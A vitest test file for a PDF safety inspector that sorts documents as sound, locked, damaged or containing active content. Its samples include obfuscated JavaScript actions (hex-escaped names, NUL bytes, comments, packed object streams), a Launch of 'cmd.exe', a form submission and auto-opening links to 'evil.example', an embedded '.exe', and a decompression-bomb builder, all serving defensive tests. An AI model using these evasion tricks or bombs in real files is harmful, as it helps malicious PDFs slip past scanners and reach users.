import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFRawStream, PDFString } from 'pdf-lib'
import { describe, expect, it } from 'vitest'
import { makePdf } from '../testing/make-pdf.ts'
import { makeLockedPdf, makeRawPdf } from '../testing/make-raw-pdf.ts'
import { inspectPdf } from './inspect-pdf.ts'

/** Creates a PDF with a stream that contains an object followed by spaces, compressed repeatedly. */
async function padded(megabytes: number, layers: number, first = 'q Q'): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  pdf.addPage()
  let bytes: Uint8Array = Buffer.concat([Buffer.from(first, 'latin1'), Buffer.alloc(megabytes * 1024 * 1024, ' ')])
  for (let layer = 0; layer < layers; layer++) bytes = deflateSync(bytes)
  const filters = Array.from({ length: layers }, () => 'FlateDecode')
  pdf.catalog.set(
    PDFName.of('Padding'),
    pdf.context.register(PDFRawStream.of(pdf.context.obj({ Filter: filters }), bytes)),
  )
  return Buffer.from(await pdf.save({ useObjectStreams: false }))
}

const script = '/JS(app.alert\\(1\\))'

/** Creates a PDF with a script in a compressed object stream, as all current programs write them. */
async function packed(): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  pdf.addPage()
  const action = pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action))
  const bytes = Buffer.from(await pdf.save({ useObjectStreams: true }))
  return bytes
}

async function withFile(): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  pdf.addPage()
  await pdf.attach(Buffer.from('x'), 'a.exe')
  return Buffer.from(await pdf.save())
}

const [words, packedScript, carrying] = [await makePdf('Registrar', 'Registrar'), await packed(), await withFile()]
const [withPassword, without] = [await makeLockedPdf('reader'), await makeLockedPdf('')]

describe('a PDF', () => {
  it('from a current program does not contain its scripts in plain text', () => {
    expect(packedScript.toString('latin1')).not.toContain('JavaScript')
  })

  it.each([
    ['of words', words],
    ['of one empty page', makeRawPdf('')],
    ['that opens at a page', makeRawPdf('/OpenAction[3 0 R/Fit]')],
    ['that opens at a page by an action', makeRawPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>')],
    ['with a link', makeRawPdf('', '<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://lakeside.example)>>>>')],
  ])('%s is valid', async (_, content) => {
    expect(await inspectPdf(content)).toBe('sound')
  })

  it.each([
    ['a script', makeRawPdf('', `<</S/JavaScript${script}>>`)],
    ['a script with a letter in code', makeRawPdf('', `<</S/J#61vaScript${script}>>`)],
    ['a script behind a NUL as white space', makeRawPdf('', `<</S\0/JavaScript${script}>>`)],
    ['a script behind a comment', makeRawPdf('', `<</S %look away\n/JavaScript${script}>>`)],
    ['a script whose kind stands elsewhere', makeRawPdf('', '<</S 5 0 R/X(1)>>', '/JavaScript')],
    ['a script in a packed part', packedScript],
    ['scripts by name', makeRawPdf('/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', '<</X 1>>')],
    ['a program to start', makeRawPdf('', '<</S/Launch/F(cmd.exe)>>')],
    ['a form to send', makeRawPdf('', '<</S/SubmitForm/F(https://evil.example)>>')],
    ['data to fetch', makeRawPdf('', '<</S/ImportData/F(a.fdf)>>')],
    ['a file in it', carrying],
    ['a link that opens by itself', makeRawPdf('/OpenAction<</S/URI/URI(https://evil.example)>>')],
    ['one action that follows another on opening', makeRawPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI>>>>')],
    ['an action on opening that stands elsewhere', makeRawPdf('/OpenAction 4 0 R', '<</S/Named/N/Print>>')],
    ['what happens when a page is shown', makeRawPdf('/AA<</O<</S/URI/URI(https://evil.example)>>>>')],
  ])('with %s is rejected', async (_, content) => {
    expect(await inspectPdf(content)).toBe('hasProgram')
  })

  it('that opens with a password is reported as locked, and accepted if only its owner has one', async () => {
    expect(await inspectPdf(withPassword)).toBe('locked')
    expect(await inspectPdf(without)).toBe('sound')
  })

  it('of version 2.0 is accepted', async () => {
    const newer = Buffer.from(makeRawPdf('').toString('latin1').replace('%PDF-1.7', '%PDF-2.0'), 'latin1')
    expect(await inspectPdf(newer)).toBe('sound')
  })

  it.each([
    ['without its objects', Buffer.from('%PDF-1.4\n1 0 obj<</X 1>>endobj\nstartxref\n9\n%%EOF')],
    [
      'whose list of objects points elsewhere',
      Buffer.from(makeRawPdf('').toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%shift\n'), 'latin1'),
    ],
  ])('%s is reported as damaged', async (_, content) => {
    expect(await inspectPdf(content)).toBe('damaged')
  })

  it.each([1, 2, 3])(
    'with a stream compressed %i times is damaged if it unpacks to more than the limit',
    async (layers) => {
      const bound = 4 * 1024 * 1024
      expect(await inspectPdf(await padded(2, layers), bound)).toBe('sound')
      const bomb = await padded(6, layers)
      expect(bomb.length).toBeLessThan(20_000)
      expect(await inspectPdf(bomb, bound)).toBe('damaged')
    },
  )

  it('with a stream that only appears to be compressed again is counted to its end', async () => {
    expect(await inspectPdf(await padded(6, 1, 'x\x9c?'), 4 * 1024 * 1024)).toBe('damaged')
  })

  it('with a stream compressed repeatedly is damaged, whatever it unpacks to', async () => {
    expect(await inspectPdf(await padded(1, 5))).toBe('damaged')
  })
})
